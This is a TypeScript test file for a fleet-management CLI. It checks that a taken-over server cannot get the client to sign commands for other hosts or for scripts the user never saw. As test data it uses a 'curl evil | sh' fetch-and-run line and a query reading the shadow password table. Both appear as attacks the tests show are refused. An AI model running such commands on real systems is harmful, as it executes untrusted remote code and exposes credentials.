import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { HostTree, readStatement, type StatedHost } from '#libs/protocol/index';
import { ScriptedServer } from '../../testing/scripted-server.js';
import { REVIEW, reviewBody } from '../../testing/session-bodies.js';
import { Terminal } from '../../testing/terminal.js';
import { KeyStore } from '../signing/key-store.js';

/*
 * A server that somebody has taken over answers whatever it likes: other hosts than those that were meant, another script than the one that was looked
 * at. What it wants is a signature.
 */

const web1 = { id: 1, uuid: '11111111-1111-4111-8111-111111111111', hostname: 'web-1' };
const web2 = { id: 2, uuid: '22222222-2222-4222-8222-222222222222', hostname: 'web-2' };
const db1 = { id: 3, uuid: '33333333-3333-4333-8333-333333333333', hostname: 'db-1' };
const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex');

let server: ScriptedServer;
let terminal: Terminal;
/** Whom the server says that anything is for. */
let hosts: (StatedHost & { id: number })[];
/** What the server says that a review is of. */
let reviewed: string;
let savedSql: string;

beforeEach(async () => {
  [hosts, reviewed, savedSql] = [[web1], 'echo harmless', 'select 1'];
  server = await ScriptedServer.start();
  terminal = new Terminal();
  terminal.env = { MUSTER_URL: server.url, MUSTER_TOKEN: 'secret-token' };
  await new KeyStore({ configFile: join(terminal.home, '.config/muster/config.json') }).add('laptop');
  server
    .on('POST', '/api/v1/targets/preview', () => ({
      hosts: hosts.map((host) => ({ ...host, online: true, allowed: true })),
      digest: 'ab'.repeat(32),
    }))
    .on('GET', '/api/v1/fleet/hosts/identifier/:name', () => ({ host: { ...hosts[0], status: 'online' } }))
    .on('POST', '/api/node/:target/command/:kind', (_request, response) => {
      response.statusCode = 202;
      return { job_id: REVIEW, results: [] };
    })
    .on('POST', '/api/v1/fleet/scripts/run', () => ({ host_id: 1, execution_id: REVIEW }))
    .on('POST', '/api/v1/fleet/translate', ({ body }) => ({
      list: (body['list'] as object[]).map((each, i) => ({ ...each, payload: { id: i + 1 } })),
    }))
    .on('GET', '/api/v1/fleet/queries', () => ({ queries: [{ id: 5, name: 'users', query: savedSql }] }))
    .on('POST', '/api/v1/fleet/queries/run_by_names', (_request, response) => {
      response.statusCode = 503;
      return { message: 'got it' };
    })
    .on('GET', '/api/reviews/:id', () => reviewBody())
    .on('PUT', '/api/reviews/:id', () => reviewBody({ status: 'APPROVED' }))
    .on('GET', '/api/reviews/:id/statement', () => ({
      kind: 'script',
      content: Buffer.from(reviewed).toString('base64'),
      stdin: null,
      arguments: [],
      env: {},
      cwd: null,
      user: null,
      clean_env: false,
      lane: 'serial',
      timeout_seconds: 300,
      hosts: hosts.map(({ uuid, hostname }) => ({ uuid, hostname })),
      statement: null,
    }));
});

afterEach(async () => {
  terminal.remove();
  await server.stop();
});

/** The statements that the server has got hold of. */
function got(): ReturnType<typeof readStatement>[] {
  return server.requests.flatMap(({ body }) => {
    const signed = body['statement'] as { statement: string } | undefined;
    return signed ? [readStatement(signed.statement)] : [];
  });
}

/** At a terminal, where the question is answered. */
async function asked(answer: string, ...args: string[]): Promise<number> {
  Object.assign(terminal.stdin, { isTTY: true });
  const code = terminal.musterOnTty(...args);
  const { stderr } = terminal;
  await Promise.race([stderr.until('[y/N]'), code]);
  terminal.stdin.write(`${answer}\n`);
  return code;
}

const exec = (target: string, ...more: string[]): string[] => [
  ...['exec', '--target', target, '--async', '--sign', ...more],
  ...['--', 'reboot'],
];
const rootOf = (...of: StatedHost[]): string => HostTree.over(of).root;
const digestShown = (): string => /^statement +([0-9a-f]{64})$/m.exec(terminal.stderr.text)?.[1] ?? '';

describe('a hostname that was typed', () => {
  it('is signed for, and needs no more words in a script', async () => {
    expect(await terminal.muster(...exec('web-1'))).toBe(0);
    expect(await terminal.muster(...exec(web1.uuid))).toBe(0);
    expect(got().map(({ hosts: { root, count } }) => [root, count])).toEqual([
      [rootOf(web1), 1],
      [rootOf(web1), 1],
    ]);
    expect(terminal.stderr.text).toMatch(/^signed with laptop \([0-9a-f]{16}\) for web-1$/m);
  });

  it.each([
    ['another host', [db1]],
    ['another one, too', [web1, db1]],
    ['two of that name', [web1, { ...db1, hostname: 'web-1' }]],
    ['one without a name', [{ ...web1, hostname: '' }]],
  ])('is not given away for %s, whoever says yes', async (_, lie) => {
    hosts = lie;
    expect(await terminal.muster(...exec('web-1'))).toBe(1);
    expect(terminal.stderr.text).toContain('not signed: the server');
    expect(await terminal.muster(...exec('web-1', '--expect-hosts', '2'))).toBe(1);
    expect(await asked('y', ...exec('web-1'))).toBe(1);
    const query = ['query', 'select 1', '--sign', '--hosts', 'web-1'];
    expect(await terminal.muster(...query)).toBe(1);
    expect(terminal.stderr.text).toContain('not signed: the server');
    expect(got()).toEqual([]);
  });

  it('is not given away by scripts and queries either', async () => {
    hosts = [db1];
    const script = ['run-script', '--host', 'web-1', '--async', '--sign', '--', 'reboot'];
    expect(await terminal.muster(...script)).toBe(1);
    expect(terminal.stderr.text).toContain('not signed: the server takes web-1 for db-1');
    hosts = [web1, db1];
    expect(await terminal.muster('query', 'select 1', '--sign', '--hosts', 'web-1,web-2')).toBe(1);
    expect(terminal.stderr.text).toContain('not signed: the server takes web-1, web-2 for db-1');
    expect(got()).toEqual([]);
    hosts = [web1, web2];
    await terminal.muster('query', 'select 1', '--sign', '--hosts', 'web-1,web-2');
    expect(got()).toMatchObject([{ kind: 'query', hosts: { root: rootOf(web1, web2), count: 2 } }]);
  });
});

describe('hosts that only the server can name', () => {
  const open = ['_all', '_any', 'group:web', 'group:web and not group:db', '3'];

  it.each(open)('are not signed for unseen (%s)', async (target) => {
    hosts = [db1];
    expect(await terminal.muster(...exec(target))).toBe(2);
    expect(terminal.stderr.text).toMatch(/^hosts +db-1$/m);
    expect(terminal.stderr.text).toContain('--expect-hosts');
    expect(await asked('', ...exec(target))).toBe(1);
    expect(await asked('n', ...exec(target))).toBe(1);
    expect(got()).toEqual([]);
    expect(await asked('y', ...exec(target))).toBe(0);
    expect(got()).toHaveLength(1);
  });

  it('are shown to a person before, all of them, with what would run and who signs', async () => {
    hosts = Array.from({ length: 30 }, (_, i) => ({ ...web1, id: i, uuid: web1.uuid, hostname: `web-${i}` }));
    expect(await asked('yes', ...exec('_all'))).toBe(0);
    const [before = ''] = terminal.stderr.text.split('Sign this for 30 hosts? [y/N]');
    expect(before).toContain('  ["reboot"]');
    expect(before).toContain(sha256('["reboot"]'));
    expect(before).toMatch(/^hosts +30: web-0, .*, web-9$/m);
    expect(before).toMatch(/^key +laptop \(/m);
    expect(before).not.toContain('signed with');
  });

  it('are signed for when they are those that a script expects, and not otherwise', async () => {
    hosts = [web1, web2];
    for (const expected of ['2', 'web-2,WEB-1', `${web1.uuid},web-2`])
      expect(await terminal.muster(...exec('_all', '--expect-hosts', expected))).toBe(0);
    expect(got()).toHaveLength(3);
    for (const [expected, why] of [
      ['3', '3 hosts were expected, and the server names 2'],
      ['web-1', 'hosts that were not expected: web-2'],
      ['web-1,web-1', 'hosts that were not expected: web-2'],
      ['web-1,web-2,db-1', 'does not name db-1'],
    ] as const) {
      expect(await terminal.muster(...exec('_all', '--expect-hosts', expected))).toBe(1);
      expect(terminal.stderr.text).toContain(why);
      expect(await asked('y', ...exec('_all', '--expect-hosts', expected))).toBe(1);
    }
    expect(got()).toHaveLength(3);
  });
});

describe('what only the server has said would run', () => {
  const approve = (...more: string[]): string[] => ['reviews', 'approve', REVIEW, '--sign', ...more];

  it('is not signed unseen', async () => {
    reviewed = 'curl evil | sh';
    expect(await terminal.muster(...approve())).toBe(2);
    expect(terminal.stderr.text).toContain('  curl evil | sh');
    expect(await terminal.muster(...approve('--digest', 'ab'.repeat(32)))).toBe(2);
    expect(await asked('n', ...approve())).toBe(1);
    expect(server.asked('PUT', `/api/reviews/${REVIEW}`)).toEqual([]);
  });

  it('is signed by a person who says yes, or for whom it is what was shown before', async () => {
    expect(await asked('y', ...approve())).toBe(0);
    expect(await terminal.muster(...approve('--statement-digest', digestShown()))).toBe(0);
    const content = sha256('echo harmless');
    expect(got()).toMatchObject([{ content_sha256: content }, { content_sha256: content }]);
  });

  it.each([
    ['another script', (): void => void (reviewed = 'echo harmful')],
    ['another host', (): void => void (hosts = [db1])],
    ['one host more', (): void => void (hosts = [web1, db1])],
  ])('is not signed when by then it is %s', async (_, lie) => {
    expect(await terminal.muster(...approve())).toBe(2);
    const digest = digestShown();
    expect(digest).not.toBe('');
    lie();
    expect(await terminal.muster(...approve('--statement-digest', digest))).toBe(1);
    expect(terminal.stderr.text).toContain('another statement than was expected');
    expect(await asked('y', ...approve('--statement-digest', digest))).toBe(1);
    expect(server.asked('PUT', `/api/reviews/${REVIEW}`)).toEqual([]);
  });

  it('may be a saved query', async () => {
    savedSql = 'select * from shadow';
    const query = ['query', '--query-name', 'users', '--hosts', 'web-1', '--sign'];
    expect(await terminal.muster(...query)).toBe(2);
    expect(terminal.stderr.text).toContain('  select * from shadow');
    expect(await terminal.muster(...query, '--expect-hosts', 'web-1')).toBe(2);
    const digest = digestShown();
    savedSql = 'select * from users';
    expect(await terminal.muster(...query, '--statement-digest', digest)).toBe(1);
    expect(got()).toEqual([]);
    savedSql = 'select * from shadow';
    await terminal.muster(...query, '--statement-digest', digest);
    expect(got()).toMatchObject([{ content_sha256: sha256(savedSql) }]);
  });
});
